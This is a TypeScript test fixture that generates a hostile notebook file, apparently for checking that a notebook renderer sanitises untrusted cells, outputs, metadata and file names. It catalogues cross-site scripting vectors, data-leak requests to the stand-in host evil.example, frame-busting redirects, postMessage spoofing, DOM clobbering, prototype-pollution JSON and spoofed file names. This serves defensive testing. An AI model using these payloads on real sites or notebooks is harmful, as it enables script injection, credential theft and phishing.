/**
 * Cells of a notebook that somebody hostile wrote: every way to run a script in the page, to send something out, to leave
 * the page or to cover it that the field's holes have taught. Each calls `attack('<name>')`, which the story defines.
 */

interface Cell {
  readonly cell_type: 'markdown' | 'code' | 'raw';
  readonly id: string;
  readonly metadata: object;
  readonly source: string;
  readonly [key: string]: unknown;
}

type Bundle = Readonly<Record<string, unknown>>;
const evil = 'https://evil.example';
const call = (name: string) => `attack('${name}')`;

/** HTML that wants to run or to send; the same is tried as Markdown and as a result. */
const html: Readonly<Record<string, (name: string) => string>> = {
  script: (n) => `<script>${call(n)}</script>`,
  onerror: (n) => `<img src=x onerror="${call(n)}"><img/src='y'/onerror=${call(n)}>`,
  twoHandlers: (n) => `<img src=x onload="${call(n)}" onerror="${call(n)}" onmouseover="${call(n)}">`,
  svgOnload: (n) =>
    `<svg onload="${call(n)}"><script>${call(n)}</script><circle r=9 onclick="${call(n)}"/></svg>`,
  svgAnimate: (n) =>
    `<svg><animate onbegin="${call(n)}" attributeName=x dur=1s><set attributeName=onmouseover to="${call(n)}"></svg>`,
  svgLink: (n) =>
    `<svg><a xlink:href="javascript:${call(n)}" href="javascript:${call(n)}"><text y=20>svg link</text></a><use href="data:image/svg+xml,<svg id='x' onload='${call(n)}'/>#x"/></svg>`,
  foreignObject: (n) =>
    `<svg><foreignObject><body onload="${call(n)}"><iframe srcdoc="<script>parent.${call(n)}</script>"></iframe></body></foreignObject></svg>`,
  links: (n) =>
    `<a href="javascript:${call(n)}">a</a><a href=" java\tscript:${call(n)}">b</a><a href="&#106;avascript:${call(n)}">c</a><a href="vbscript:${call(n)}">d</a><a href="data:text/html,<script>${call(n)}</script>">e</a><a href="${evil}/${n}" target="_top">f</a><a href="//evil.example/${n}" ping="${evil}/${n}">g</a>`,
  iframes: (n) =>
    `<iframe src="javascript:parent.${call(n)}"></iframe><iframe srcdoc="<script>parent.${call(n)}</script>"></iframe><iframe src="${evil}/${n}"></iframe><iframe src="/api/me"></iframe>`,
  objects: (n) =>
    `<object data="data:text/html,<script>parent.${call(n)}</script>"></object><embed src="data:image/svg+xml,<svg onload='${call(n)}'/>"><applet code=x></applet>`,
  forms: (n) =>
    `<form action="${evil}/${n}" target=_top id=f${n}><input name=q value=1 autofocus onfocus="${call(n)}"><button formaction="javascript:${call(n)}">Run all</button></form><button form=f${n}>Sign in again</button>`,
  base: (n) => `<base href="${evil}/${n}/"><a href="next">relative</a><img src="relative-${n}.png">`,
  refresh: (n) =>
    `<meta http-equiv="refresh" content="0;url=${evil}/${n}"><meta http-equiv="refresh" content="0;url=javascript:${call(n)}">`,
  sheets: (n) =>
    `<link rel=stylesheet href="${evil}/${n}.css"><link rel=prefetch href="${evil}/${n}-prefetch"><link rel=dns-prefetch href="${evil}"><link rel=modulepreload href="${evil}/${n}.js">`,
  styles: (n) =>
    `<style>@import "${evil}/${n}-import.css"; body{display:none} input[value^=a]{background:url(${evil}/${n}-value)} @font-face{font-family:x;src:url(${evil}/${n}-font)} *{font-family:x}</style><p style="background:url(${evil}/${n}-inline);list-style-image:url('${evil}/${n}-list')">styled</p>`,
  overlay: (n) =>
    `<div id=over-${n} style="position:fixed;inset:0;z-index:2147483647;background:#000;opacity:.01;pointer-events:auto">x</div><div style="position:absolute;left:-9999px;top:0;width:30000px;height:30000px;margin:-9000px;transform:scale(99)">y</div>`,
  media: (n) =>
    `<video poster="${evil}/${n}-poster" src="${evil}/${n}-video" autoplay onloadstart="${call(n)}"></video><audio src="${evil}/${n}-audio" autoplay></audio><picture><source srcset="${evil}/${n}-source"><img srcset="${evil}/${n}-set 1x" src="${evil}/${n}-img" background="${evil}/${n}-bg"></picture><table background="${evil}/${n}-table"><tr><td>t</td></tr></table>`,
  handlers: (n) =>
    `<details open ontoggle="${call(n)}"><summary>s</summary>x</details><marquee onstart="${call(n)}">m</marquee><div tabindex=0 onfocus="${call(n)}" autofocus contenteditable onbeforeinput="${call(n)}">f</div><body onpageshow="${call(n)}"><x-y onanimationstart="${call(n)}" style="animation:x 1s">z</x-y>`,
  clobbering: (n) =>
    `<form name=document id=location><input name=cookie><input id=getElementById></form><a id=window name=fetch href="javascript:${call(n)}">clob</a><img name=body><img name=currentScript src=x onerror=${call(n)}>`,
  commandBus: (n) =>
    `<button data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args='{"x":"${n}"}' data-cell="c0" data-action="delete" popovertarget=p>Run</button><div popover id=p>p</div><label for=x accesskey=x>l</label>`,
  mutation: (n) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call(n)}&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=${call(n)}>"></svg><noscript><p title="</noscript><img src=x onerror=${call(n)}>"></noscript><template><script>${call(n)}</script></template><xmp><img src=x onerror=${call(n)}></xmp><textarea><img src=x onerror=${call(n)}></textarea>`,
  math: (n) =>
    `<math href="javascript:${call(n)}"><mi href="javascript:${call(n)}">x</mi><annotation-xml encoding="text/html"><img src=x onerror=${call(n)}></annotation-xml></math>`,
  nesting: (n) => `${'<div><b><font>'.repeat(3_000)}<img src=x onerror=${call(n)}>`,
  frameOut: (n) =>
    `<script>${call(n)}; for (const go of [() => top.location = '${evil}/${n}-top', () => { location = '${evil}/${n}-self'; }, () => parent.location.replace('${evil}/${n}-parent'), () => open('${evil}/${n}-open'), () => { const f = document.createElement('form'); f.action = '${evil}/${n}-form'; f.target = '_top'; document.body.append(f); f.submit(); }, () => { const a = document.createElement('a'); a.href = '${evil}/${n}-click'; a.target = '_top'; document.body.append(a); a.click(); }]) try { go(); } catch {}</script>`,
  spoofing: (n) =>
    `<script>${call(n)}; for (const m of ['cahier-output-frame', 'cahier-port', { t: 'link', href: 'javascript:alert(1)' }, { t: 'resize', height: 1e9 }, { type: 'run.queue', cells: ['c0'] }]) { try { parent.postMessage(m, '*'); top.postMessage(m, '*'); } catch {} } try { for (let i = 0; i < 50; i++) history.pushState({}, '', '?' + Math.random()); } catch {}</script>`,
};

const bundles: Readonly<Record<string, (name: string) => { data: Bundle; metadata?: object }>> = {
  javascript: (n) => ({ data: { 'application/javascript': call(n), 'text/plain': '<Javascript>' } }),
  javascriptText: (n) => ({ data: { 'text/javascript': [`${call(n)}`] } }),
  svg: (n) => ({ data: { 'image/svg+xml': html['svgOnload']?.(n) } }),
  svgFile: (n) => ({
    data: {
      'image/svg+xml': `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${evil}/${n}-entity">]><svg xmlns="http://www.w3.org/2000/svg" onload="${call(n)}"><image href="${evil}/${n}-image"/><text>&x;</text></svg>`,
    },
  }),
  pngIsHtml: (n) => ({
    data: { 'image/png': Buffer.from(`<script>${call(n)}</script>`).toString('base64') },
  }),
  pngIsUrl: (n) => ({
    data: { 'image/png': `"><img src=x onerror=${call(n)}>`, 'image/jpeg': `x" onerror="${call(n)}` },
  }),
  latex: (n) => ({
    data: {
      'text/latex': `$\\href{javascript:${call(n)}}{x} \\includegraphics{${evil}/${n}} \\htmlData{x=1}{y} \\unicode{<img src=x onerror=${call(n)}>}$`,
    },
  }),
  markdown: (n) => ({
    data: {
      'text/markdown': `[a](javascript:${call(n)}) ![b](${evil}/${n}-md.png) <img src=x onerror=${call(n)}> \`\`\`html\n<script>${call(n)}</script>\n\`\`\``,
    },
  }),
  json: (n) => ({
    data: {
      'application/json': {
        __proto__: { polluted: n },
        constructor: { prototype: { polluted: n } },
        html: `<img src=x onerror=${call(n)}>`,
      },
    },
  }),
  isolated: (n) => ({
    data: { 'text/html': `<script>${call(n)}</script>` },
    metadata: { isolated: false, 'text/html': { isolated: false, trusted: true }, trusted: true },
  }),
  size: (n) => ({
    data: {
      'image/png':
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    },
    metadata: {
      width: `1" onload="${call(n)}`,
      'image/png': {
        width: 1e9,
        height: 1e9,
        alt: `"><script>${call(n)}</script>`,
        style: `background:url(${evil}/${n})`,
      },
    },
  }),
  widget: (n) => ({
    data: {
      'application/vnd.jupyter.widget-view+json': {
        model_id: `m<img src=x onerror=${call(n)}>`,
        version_major: 2,
        version_minor: 0,
      },
      'text/html': `<script>${call(n)}</script>`,
    },
  }),
  plugin: (n) => ({
    data: {
      [`application/x-<img src=x onerror=${call(n)}>`]: 'x',
      'application/vnd.plotly.v1+json': { data: [], layout: { title: `<img src=x onerror=${call(n)}>` } },
    },
  }),
  pdf: (n) => ({
    data: { 'application/pdf': Buffer.from(`%PDF-1.4 <script>${call(n)}</script>`).toString('base64') },
  }),
};

function output(data: Bundle, metadata: object = {}): object {
  return { output_type: 'display_data', data, metadata };
}

function code(id: string, outputs: readonly object[], metadata: object = {}): Cell {
  return { cell_type: 'code', id, metadata, source: `# ${id}`, outputs, execution_count: 1 };
}

export function hostileNotebook(): string {
  const cells: Cell[] = [
    { cell_type: 'code', id: 'first', metadata: {}, source: 'a = 1', outputs: [], execution_count: null },
  ];
  for (const [name, make] of Object.entries(html)) {
    cells.push({
      cell_type: 'markdown',
      id: `md-${name}`,
      metadata: {},
      source: `text\n\n${make(`md-${name}`)}\n\nmore`,
    });
    cells.push(code(`html-${name}`, [output({ 'text/html': make(`html-${name}`), 'text/plain': 'x' })]));
  }
  for (const [name, make] of Object.entries(bundles)) {
    const { data, metadata } = make(`mime-${name}`);
    cells.push(code(`mime-${name}`, [output(data, metadata)]));
  }
  const link =
    '\u001b]8;;javascript:attack("ansi")\u0007link\u001b]8;;\u0007\u001b[31m<img src=x onerror=attack("ansi")>\u001b[0m\u001b]0;owned\u0007';
  cells.push(code('ansi', [{ output_type: 'stream', name: 'stdout', text: link }]));
  cells.push(
    code('error', [
      {
        output_type: 'error',
        ename: '<img src=x onerror=attack("error")>',
        evalue: link,
        traceback: [
          link,
          '<script>attack("error")</script>',
          `File <a href="javascript:attack('error')">x</a>:1`,
        ],
      },
    ]),
  );
  cells.push({
    cell_type: 'raw',
    id: 'raw',
    metadata: { format: 'text/html' },
    source: '<script>attack("raw")</script>',
  });
  cells.push({
    cell_type: 'markdown',
    id: 'attachment',
    metadata: { tags: ['<img src=x onerror=attack("tag")>'], name: '"><script>attack("name")</script>' },
    attachments: {
      'x.svg': {
        'image/svg+xml': Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" onload="attack(\'attachment\')"/>',
        ).toString('base64'),
      },
      'y.html': { 'text/html': Buffer.from('<script>attack("attachment")</script>').toString('base64') },
    },
    source: '![x](attachment:x.svg) [y](attachment:y.html) ![z](attachment:y.html "t\\" onerror=attack(1)")',
  });
  const state = {
    version_major: 2,
    version_minor: 0,
    state: {
      m: {
        model_name: 'HTMLModel',
        model_module: `${evil}/module.js`,
        state: { value: '<img src=x onerror=attack("widget")>' },
      },
    },
  };
  const metadata = {
    kernelspec: {
      name: '<img src=x onerror=attack("kernel")>',
      display_name: '<script>attack("kernel")</script>',
      language: 'python',
    },
    language_info: {
      name: 'python',
      codemirror_mode: { name: '__proto__' },
      mimetype: `text/x"><script>attack("language")</script>`,
    },
    title: '<script>attack("title")</script>',
    widgets: { 'application/vnd.jupyter.widget-state+json': state },
  };
  return JSON.stringify({ cells, metadata, nbformat: 4, nbformat_minor: 5 }, null, 1);
}

/** As a file or folder may be called. */
export const hostileNames = [
  '<img src=x onerror=attack(1)>.ipynb',
  '"><svg onload=attack(2)>.txt',
  'javascript:attack(3).md',
  '\u202Egpj.html',
];
